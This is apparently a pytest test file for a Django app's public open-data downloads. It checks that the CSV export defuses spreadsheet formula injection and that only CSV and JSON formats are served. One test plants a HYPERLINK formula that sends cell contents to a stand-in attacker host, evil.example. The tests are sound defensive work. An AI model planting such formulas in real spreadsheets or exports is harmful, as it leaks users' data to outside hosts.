"""The open data a spreadsheet user downloads runs nothing when opened."""

import csv
import io

import pytest

pytestmark = pytest.mark.django_db(transaction=True)


def test_a_title_that_looks_like_a_formula_is_written_as_text(client, published_in_part):
    campaign = published_in_part["hampshire"].campaign
    campaign.title = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    campaign.save()
    response = client.get("/public/data/requests.csv")
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert rows
    assert {row["campaign"] for row in rows} == {"'" + campaign.title}
    assert not [cell for row in rows for cell in row.values() if cell[:1] in "=+-@\t\r"]


@pytest.mark.parametrize("fmt", ["xml", "csv.bak", "JSON"])
def test_the_open_data_comes_only_in_its_two_formats(client, fmt):
    assert client.get(f"/public/data/requests.{fmt}").status_code == 404
    assert client.get("/public/data/requests.json")["Content-Type"] == "application/json"
